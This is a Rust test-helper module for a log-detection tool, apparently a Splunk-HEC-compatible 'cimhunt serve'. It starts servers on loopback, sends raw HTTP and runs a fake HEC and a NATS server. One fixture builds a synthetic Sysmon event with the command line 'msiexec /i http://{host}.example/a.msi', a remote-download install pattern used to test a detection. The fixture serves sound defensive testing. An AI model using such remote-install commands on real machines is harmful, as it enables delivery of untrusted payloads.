//! Shared by the `cimhunt serve` tests: the binary as a child process on a loopback port, a
//! raw HTTP client, events a forwarder would send, and `nats-server` on a loopback port.
#![allow(dead_code)]

use std::io::{BufRead, BufReader, Read, Write};
use std::net::{TcpListener, TcpStream};
use std::path::Path;
use std::process::{Child, Command, Stdio};
use std::sync::mpsc;
use std::time::{Duration, Instant};

pub const TOKEN: &str = "00000000-1111-2222-3333-444444444444";

/// A running `cimhunt serve`.
pub struct Server {
    pub child: Child,
    pub addr: String,
    /// Standard error lines after the listening line.
    pub log: mpsc::Receiver<String>,
}

/// Starts `cimhunt serve` on an ephemeral loopback port with the state directory and the
/// extra arguments; returns once it listens.
pub fn spawn(state: &Path, extra: &[&str]) -> Server {
    spawn_with_env(state, extra, &[])
}

/// [`spawn`] with more environment variables.
pub fn spawn_with_env(state: &Path, extra: &[&str], env: &[(&str, &str)]) -> Server {
    let mut child = Command::new(env!("CARGO_BIN_EXE_cimhunt"))
        .arg("serve")
        .args(["--listen", "127.0.0.1:0", "--token", TOKEN])
        .arg("--state-dir")
        .arg(state)
        .args(extra)
        .env("NO_COLOR", "1")
        .env("RUST_LOG", "info")
        .envs(env.iter().copied())
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .expect("cimhunt runs");
    let stderr = child.stderr.take().unwrap();
    let (tx, rx) = mpsc::channel();
    std::thread::spawn(move || {
        for line in BufReader::new(stderr).lines() {
            let Ok(line) = line else { break };
            eprintln!("[serve] {line}");
            if tx.send(line).is_err() {
                // Keep draining so the child never blocks on a full pipe.
            }
        }
    });
    let addr = loop {
        let line = rx
            .recv_timeout(Duration::from_secs(120))
            .expect("cimhunt serve starts listening");
        if let Some(rest) = line.split("HEC listening on ").nth(1) {
            break rest.trim().to_owned();
        }
    };
    Server {
        child,
        addr,
        log: rx,
    }
}

impl Server {
    /// SIGTERM, then the exit status.
    pub fn terminate(mut self) -> (std::process::ExitStatus, Vec<String>) {
        signal(&self.child, "-TERM");
        let status = self.child.wait().unwrap();
        let log = self.log.try_iter().collect();
        (status, log)
    }

    /// SIGKILL.
    pub fn kill9(mut self) {
        signal(&self.child, "-KILL");
        let _ = self.child.wait();
    }

    /// The child's peak resident set size in KiB (`VmHWM`), while it runs.
    pub fn peak_rss_kib(&self) -> Option<u64> {
        let status = std::fs::read_to_string(format!("/proc/{}/status", self.child.id())).ok()?;
        status
            .lines()
            .find_map(|l| l.strip_prefix("VmHWM:"))
            .and_then(|v| v.trim().trim_end_matches("kB").trim().parse().ok())
    }
}

fn signal(child: &Child, sig: &str) {
    let ok = Command::new("kill")
        .arg(sig)
        .arg(child.id().to_string())
        .status()
        .unwrap()
        .success();
    assert!(ok, "kill {sig}");
}

/// POSTs `body` to `path`; the status code, or `None` when the connection failed.
pub fn post(addr: &str, path: &str, body: &str) -> Option<u16> {
    let mut s = TcpStream::connect(addr).ok()?;
    s.set_read_timeout(Some(Duration::from_secs(60))).ok()?;
    let req = format!(
        "POST {path} HTTP/1.1\r\nHost: {addr}\r\nAuthorization: Splunk {TOKEN}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
        body.len()
    );
    s.write_all(req.as_bytes()).ok()?;
    let mut resp = String::new();
    s.read_to_string(&mut resp).ok()?;
    resp.split_whitespace().nth(1)?.parse().ok()
}

/// A Sysmon process creation that the seed detection (Windows MSIExec Remote Download)
/// matches, on host `host` at `secs` (epoch seconds), as XmlWinEventLog text.
pub fn sysmon_msiexec(host: &str, secs: i64) -> String {
    let t = jiff::Timestamp::from_second(secs).unwrap();
    let system_time = t.strftime("%Y-%m-%dT%H:%M:%S%.9fZ").to_string();
    let utc = t.strftime("%Y-%m-%d %H:%M:%S%.3f").to_string();
    format!(
        "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-Sysmon' Guid='{{5770385F-C22A-43E0-BF4C-06F5698FFBD9}}'/><EventID>1</EventID><Version>5</Version><Level>4</Level><Task>1</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime='{system_time}'/><EventRecordID>1</EventRecordID><Correlation/><Execution ProcessID='1' ThreadID='2'/><Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>{host}</Computer><Security UserID='S-1-5-18'/></System><EventData><Data Name='RuleName'>-</Data><Data Name='UtcTime'>{utc}</Data><Data Name='ProcessGuid'>{{11111111-2222-3333-4444-000000000001}}</Data><Data Name='ProcessId'>100</Data><Data Name='Image'>C:\\Windows\\System32\\msiexec.exe</Data><Data Name='OriginalFileName'>msiexec.exe</Data><Data Name='CommandLine'>msiexec /i http://{host}.example/a.msi</Data><Data Name='CurrentDirectory'>C:\\Windows\\Temp\\</Data><Data Name='User'>CORP\\ana</Data><Data Name='IntegrityLevel'>Medium</Data><Data Name='Hashes'>SHA256=00</Data><Data Name='ParentProcessGuid'>{{11111111-2222-3333-4444-999999999999}}</Data><Data Name='ParentProcessId'>10</Data><Data Name='ParentImage'>C:\\Windows\\System32\\cmd.exe</Data><Data Name='ParentCommandLine'>cmd.exe /c run</Data></EventData></Event>"
    )
}

/// A HEC envelope for an XmlWinEventLog event, as a Universal Forwarder-like shipper writes it.
pub fn xml_envelope(host: &str, secs: i64, xml: &str) -> String {
    format!(
        r#"{{"time":{secs},"host":"{host}","source":"XmlWinEventLog:Microsoft-Windows-Sysmon/Operational","sourcetype":"XmlWinEventLog","index":"main","event":{}}}"#,
        serde_json::Value::String(xml.to_owned())
    )
}

/// Lines of a JSON-lines file, parsed.
pub fn json_lines(path: &Path) -> Vec<serde_json::Value> {
    std::fs::read_to_string(path)
        .unwrap_or_default()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

/// The lines of a file (none when it does not exist).
pub fn lines(path: &Path) -> Vec<String> {
    std::fs::read_to_string(path)
        .unwrap_or_default()
        .lines()
        .map(str::to_owned)
        .collect()
}

/// `cimhunt hunt --now <t>` over `inputs`: its rows, risk events and notables, as lines (the
/// risk and notable files are written into `dir`).
pub fn hunt_at(dir: &Path, t: i64, inputs: &[std::path::PathBuf]) -> [Vec<String>; 3] {
    let (risk, notable) = (
        dir.join(format!("r{t}.jsonl")),
        dir.join(format!("n{t}.jsonl")),
    );
    let out = Command::new(env!("CARGO_BIN_EXE_cimhunt"))
        .args(["hunt", "--format", "jsonl", "--no-progress", "--now"])
        .arg(t.to_string())
        .arg("--risk")
        .arg(&risk)
        .arg("--notable")
        .arg(&notable)
        .args(inputs)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let rows = String::from_utf8(out.stdout)
        .unwrap()
        .lines()
        .map(str::to_owned)
        .collect();
    [rows, lines(&risk), lines(&notable)]
}

/// A stand-in for Splunk's HEC on a loopback port: answers every request with Splunk's success
/// reply and keeps the JSON envelopes of the `/services/collector/event` requests it got.
pub struct FakeHec {
    pub url: String,
    envelopes: std::sync::Arc<std::sync::Mutex<Vec<serde_json::Value>>>,
}

impl FakeHec {
    pub fn start() -> FakeHec {
        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let url = format!("http://{}", listener.local_addr().unwrap());
        let envelopes = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
        let kept = std::sync::Arc::clone(&envelopes);
        std::thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                let kept = std::sync::Arc::clone(&kept);
                std::thread::spawn(move || serve_hec_connection(stream, &kept));
            }
        });
        FakeHec { url, envelopes }
    }

    /// The envelopes received so far, in order.
    pub fn envelopes(&self) -> Vec<serde_json::Value> {
        self.envelopes.lock().unwrap().clone()
    }
}

/// Answers the requests of one keep-alive connection.
fn serve_hec_connection(stream: TcpStream, kept: &std::sync::Mutex<Vec<serde_json::Value>>) {
    let _ = stream.set_read_timeout(Some(Duration::from_secs(30)));
    let mut reader = BufReader::new(stream.try_clone().unwrap());
    let mut writer = stream;
    loop {
        let mut request_line = String::new();
        if reader.read_line(&mut request_line).unwrap_or(0) == 0 {
            return;
        }
        let mut length = 0usize;
        loop {
            let mut header = String::new();
            if reader.read_line(&mut header).unwrap_or(0) == 0 {
                return;
            }
            let header = header.trim_end();
            if header.is_empty() {
                break;
            }
            if let Some((name, value)) = header.split_once(':')
                && name.eq_ignore_ascii_case("content-length")
            {
                length = value.trim().parse().unwrap_or(0);
            }
        }
        let mut body = vec![0; length];
        if reader.read_exact(&mut body).is_err() {
            return;
        }
        if request_line.contains("/services/collector/event") {
            let text = String::from_utf8_lossy(&body).into_owned();
            let stream = serde_json::Deserializer::from_str(&text).into_iter::<serde_json::Value>();
            kept.lock().unwrap().extend(stream.map_while(Result::ok));
        }
        let reply = r#"{"text":"Success","code":0}"#;
        let response = format!(
            "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{reply}",
            reply.len()
        );
        if writer.write_all(response.as_bytes()).is_err() {
            return;
        }
    }
}

/// `nats-server -js` on a loopback port, its store in a temporary directory.
pub struct Nats {
    child: Child,
    port: u16,
    _store: tempfile::TempDir,
}

impl Nats {
    pub fn start() -> Option<Nats> {
        Nats::start_with_file_store(None)
    }

    /// With `Some`, the server's JetStream file storage is that (`max_file_store`, e.g.
    /// `"32MB"`) rather than what its disk's free space gives.
    pub fn start_with_file_store(file_store: Option<&str>) -> Option<Nats> {
        let works = |bin: &str| {
            Command::new(bin)
                .arg("--version")
                .stdout(Stdio::null())
                .stderr(Stdio::null())
                .status()
                .is_ok_and(|s| s.success())
        };
        if !works("nats-server") {
            let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../.ci/nats-server");
            let installed = Command::new(&script)
                .arg("--install-only")
                .status()
                .is_ok_and(|s| s.success());
            if !installed || !works("nats-server") {
                eprintln!("SKIPPED: nats-server is not installed and could not be installed");
                return None;
            }
        }
        let port = TcpListener::bind("127.0.0.1:0")
            .unwrap()
            .local_addr()
            .unwrap()
            .port();
        let store = tempfile::tempdir().unwrap();
        let mut command = Command::new("nats-server");
        command.args(["-a", "127.0.0.1", "-p", &port.to_string()]);
        if let Some(size) = file_store {
            let config = store.path().join("server.conf");
            let dir = store.path().join("store");
            let text = format!(
                "jetstream {{\n  store_dir: {:?}\n  max_file_store: {size}\n}}\n",
                dir.to_str().unwrap()
            );
            std::fs::write(&config, text).unwrap();
            command.arg("-c").arg(config);
        } else {
            command.args(["-js", "-sd"]).arg(store.path());
        }
        let child = command
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .expect("nats-server starts");
        let deadline = Instant::now() + Duration::from_secs(20);
        while TcpStream::connect(("127.0.0.1", port)).is_err() {
            assert!(Instant::now() < deadline, "nats-server did not listen");
            std::thread::sleep(Duration::from_millis(50));
        }
        Some(Nats {
            child,
            port,
            _store: store,
        })
    }

    pub fn url(&self) -> String {
        format!("nats://127.0.0.1:{}", self.port)
    }
}

impl Drop for Nats {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}
